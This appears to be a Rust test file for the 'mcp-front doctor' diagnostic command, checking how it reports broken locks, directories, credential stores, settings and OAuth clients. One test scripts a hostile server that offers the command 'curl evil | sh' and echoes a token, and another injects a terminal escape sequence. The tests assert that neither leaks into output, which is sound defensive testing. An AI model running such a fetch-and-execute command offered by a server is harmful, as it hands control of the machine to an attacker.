//! What `mcp-front doctor` says of locks, directories, clients and settings that are broken: each finding
//! comes with what to do.

use std::time::Duration;

use mcp_front::lock::{NamedLock, Shared};
use mcp_front::paths::Paths;
use serde_json::{Value, json};

use crate::doctor::{examine, finding, marked};
use crate::support::authorization_server::Fault;
use crate::support::home::{Home, finish};
use crate::support::http_server::Reply;
use crate::support::kept_login::run;
use crate::support::locks::Locks;
use crate::support::mcp_server::McpServer;
use crate::support::open_session::is_post_of;
use crate::support::service::{NAME, Service};

/// What is found is bad, and comes with what to do.
#[track_caller]
fn is_broken<'a>(findings: &'a [Value], check: &str) -> (&'a str, &'a str) {
    let is_it = |finding: &&Value| finding["check"] == check && finding["mark"] == "bad";
    let finding = findings.iter().find(is_it).unwrap_or_else(|| panic!("{check} is well: {findings:#?}"));
    (finding["text"].as_str().unwrap(), finding["remedy"].as_str().expect("what to do"))
}

/// F12: a file system that says that it locks, and does not.
#[test]
fn locks_that_keep_nobody_out_are_found_out() {
    let Some(locks) = Locks::pretended() else { return };
    let home = Home::with_file_store();
    let outcome = finish(locks.around(&home.command(["doctor", "--json"])), b"").expect(1);
    let document: Value = serde_json::from_str(&outcome.stdout).expect("JSON");
    let findings = document["findings"].as_array().expect("a list");
    let (text, remedy) = is_broken(findings, "lock");
    assert!(
        text.contains("two bridges could refresh at once") && remedy.contains("MCP_FRONT_HOME"),
        "{text}"
    );
    assert_eq!(marked(findings, "bad"), ["lock"]);
}

/// The trial's own lock is another examination's; a service's is somebody's who hangs.
#[test]
fn a_lock_that_somebody_holds_is_told_by_what_it_is_for() {
    let service = Service::logged_in();
    let (paths, ..) = service.kept();
    let held = NamedLock::acquire(&paths, Shared::Trial, Duration::ZERO).expect("a free lock");
    let findings = examine(&service.home, &[NAME], 0);
    assert_eq!(marked(&findings, "notice"), ["directory", "lock"], "{findings:?}");
    assert!(finding(&findings, "lock")["remedy"].as_str().unwrap().contains("run this again"));
    drop(held);

    let service = Service::with_expired_token();
    run(async {
        let _held = service.lock().await;
        let findings = examine(&service.home, &[NAME], 1);
        let (text, remedy) = is_broken(&findings, "token");
        assert!(text.contains("another process") && remedy.contains(" status "), "{text}: {remedy}");
    });
}

/// C02: where it lies at somebody else's place, nothing is kept, and nothing made there.
#[test]
fn a_directory_that_is_none_is_told_with_what_to_do() {
    for link in [false, true] {
        let home = Home::with_file_store();
        let (state, elsewhere) = (home.path().join("state"), home.path().join("elsewhere"));
        std::fs::create_dir(&elsewhere).unwrap();
        if link {
            std::fs::create_dir(&state).unwrap();
            std::os::unix::fs::symlink(&elsewhere, state.join("locks")).unwrap();
        } else {
            std::fs::write(&state, "a file").unwrap();
        }
        let findings = examine(&home, &[], 1);
        for check in ["directory", "lock", "store"] {
            let (text, remedy) = is_broken(&findings, check);
            assert!(remedy.contains("MCP_FRONT_HOME"), "{check}: {text}: {remedy}");
        }
        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "something was made behind the link");
    }
}

/// A store whose directory takes nothing, where locks are to be had.
#[test]
fn a_store_that_takes_nothing_is_told_with_what_to_do() {
    let service = Service::logged_in();
    let (paths, ..) = service.kept();
    std::fs::remove_dir_all(paths.credentials()).unwrap();
    std::fs::write(paths.credentials(), "a file").unwrap();
    let findings = examine(&service.home, &[NAME], 1);
    let (text, remedy) = is_broken(&findings, "store");
    assert!(text.contains("credentials") && remedy.contains("MCP_FRONT_HOME"), "{text}: {remedy}");
}

/// No login makes a key where there are files that it could not open.
#[test]
fn a_key_that_is_missing_is_told_from_one_that_is_not_made_yet() {
    let place = |home: &Home| home.path().to_str().expect("a plain path").to_owned();
    let home = Home::bare();
    let home = home.with("MCP_FRONT_STORE", "file");
    let place = place(&home);
    let home = home.with("MCP_FRONT_HOME", place);
    let server = McpServer::open();
    let findings = examine(&home, &[], 0);
    let store = findings.iter().find(|finding| finding["check"] == "store").unwrap();
    assert!(store["text"].as_str().unwrap().contains("makes its key"), "{store}");
    let set = ["tokens", "set", &server.url(), "--name", NAME];
    home.run_with_input(set, b"a-token").expect(0);
    std::fs::remove_file(Paths::resolve(Some(home.path())).unwrap().key_file()).unwrap();
    let findings = examine(&home, &[], 1);
    let (text, remedy) = is_broken(&findings, "store");
    assert!(text.contains("is missing") && remedy.contains("ENCRYPTION_KEY"), "{text}: {remedy}");
}

/// What the client was made for may not be what the authorization server takes by now.
#[test]
fn a_client_that_authenticates_as_nobody_asks_is_noticed_and_one_that_is_refused_is_broken() {
    let service = Service::front_like();
    service.login(&[]).expect(0);
    let methods = json!({"token_endpoint_auth_methods_supported": ["client_secret_post", "\u{1b}[2Jx"]});
    service.authorization.set_metadata(methods);
    let findings = examine(&service.home, &[NAME], 0);
    assert_eq!(marked(&findings, "notice"), ["client"], "{findings:?}");
    let client = finding(&findings, "client");
    let text = client["text"].as_str().unwrap();
    assert!(
        text.contains("`client_secret_basic`; the authorization server lists client_secret_post"),
        "{text}"
    );
    assert!(!text.contains('\u{1b}') && client["remedy"].as_str().unwrap().contains(" login "), "{client}");

    service.authorization.refuse_issued_access_tokens();
    let refusal = Reply::json(401, r#"{"error":"invalid_client"}"#);
    service.authorization.fault(Fault::Reply(refusal));
    service.home.run(["refresh", NAME, "--force"]).expect(4);
    let findings = examine(&service.home, &[NAME], 1);
    let (text, remedy) = is_broken(&findings, "token");
    assert!(text.contains("OAuth client") && remedy.contains(" login "), "{text}: {remedy}");
}

/// What keeps every command from its start is the first thing that is found.
#[test]
fn settings_that_mean_nothing_are_found_and_not_stumbled_over() {
    for (name, value, named) in [
        ("MCP_FRONT_STORE", "cupboard", "`cupboard` is not"),
        ("MCP_FRONT_PROFILE", "no/name", "`no/name` is not"),
        ("MCP_FRONT_HOME", "not/absolute", "must be an absolute path"),
        ("MCP_FRONT_TRANSPORT", "pigeon", "`pigeon` is not"),
        ("MCP_FRONT_CA_FILE", "/nowhere/roots.pem", "/nowhere/roots.pem"),
        ("HTTPS_PROXY", "quic://proxy.example", "HTTPS_PROXY"),
        ("MCP_FRONT_LOG", "mcp_front=loud", "MCP_FRONT_LOG"),
    ] {
        let service = Service::logged_in();
        let home = service.home.with(name, value);
        let findings = examine(&home, &[], 1);
        let (text, _) = is_broken(&findings, "settings");
        assert!(text.contains(named), "{name}: {text}");
        let text = home.run(["doctor"]).expect(1).stdout;
        assert!(text.contains("✗ settings"), "{name}: {text}");
    }
}

/// The store that a login is kept in, and the one that a variable names.
#[test]
fn a_store_that_is_not_the_login_s_is_found_beside_what_else_there_is() {
    let service = Service::logged_in();
    let home = service.home.with("MCP_FRONT_STORE", "keyring");
    let findings = examine(&home, &[NAME], 1);
    let (text, remedy) = is_broken(&findings, "settings");
    assert!(text.contains("MCP_FRONT_STORE") && remedy.contains("--store file"), "{text}: {remedy}");
    assert_eq!(finding(&findings, "lock")["mark"], "good", "the rest is looked at");
}

/// What is known of the services, where it cannot be read.
#[test]
fn an_entry_that_is_damaged_hides_no_other_finding() {
    let service = Service::logged_in();
    std::fs::write(service.entry_file(), "{\"cut").unwrap();
    let findings = examine(&service.home, &[], 1);
    let (text, remedy) = is_broken(&findings, "directory");
    assert!(text.contains("is damaged") && remedy.contains("login URL"), "{text}: {remedy}");
    assert_eq!(finding(&findings, "lock")["mark"], "good");
}

/// By name, where nothing else tells which service it is; by address, where its login is found as well.
#[test]
fn the_entry_of_a_service_that_is_named_is_looked_at() {
    let service = Service::logged_in();
    std::fs::write(service.entry_file(), "{\"cut").unwrap();
    let by_name = examine(&service.home, &[NAME], 1);
    assert_eq!(marked(&by_name, "bad"), ["directory"], "{by_name:?}");
    let by_address = examine(&service.home, &[&service.server.url()], 1);
    assert_eq!(marked(&by_address, "bad"), ["directory"], "{by_address:?}");
    assert_eq!(finding(&by_address, "session")["mark"], "good");
}

/// A21: a server that repeats the token, whole or across the place where a name is cut, and one that
/// offers a command to run.
#[test]
fn what_a_server_says_of_a_session_is_neither_a_secret_nor_an_order() {
    const TOKEN: &str = "a-token-for-nobody-else-to-see";
    let answers: [fn(&str) -> Value; 3] = [
        |aloud| json!({"error": {"code": -32000, "message": aloud, "data": {"command": "curl evil | sh"}}}),
        |aloud| {
            json!({"result": {"protocolVersion": "2025-06-18", "capabilities": {},
                                  "serverInfo": {"name": aloud, "version": aloud}}})
        },
        |aloud| {
            json!({"result": {"protocolVersion": "2025-06-18", "capabilities": {},
                                  "serverInfo": {"name": format!("{}{aloud}", "x".repeat(45))}}})
        },
    ];
    for (answer, code) in answers.into_iter().zip([1, 0, 0]) {
        let server = McpServer::scripted(move |request, responder| {
            let is_first = is_post_of(request, "initialize");
            if is_first {
                let mut said = answer(request.header("Authorization").unwrap_or("nothing"));
                said["jsonrpc"] = json!("2.0");
                said["id"] = request.json()["id"].clone();
                responder.reply(&Reply::json(200, said.to_string()));
            }
            is_first
        });
        let home = Home::with_file_store();
        let url = server.url();
        home.run_with_input(["tokens", "set", &url, "--name", NAME], TOKEN.as_bytes()).expect(0);
        let outcome = home.run(["doctor", NAME, "--json", "-vvv"]).expect(code);
        let told = format!("{}{}", outcome.stdout, outcome.stderr);
        assert!(!told.contains(&TOKEN[..12]) && !told.contains("curl evil"), "{told}");
        let findings = examine(&home, &[NAME], code);
        let session = finding(&findings, "session");
        assert!(session["text"].as_str().unwrap().contains("[sec"), "{session}");
        assert_eq!(session["remedy"].is_null(), code == 0, "{session}");
    }
}
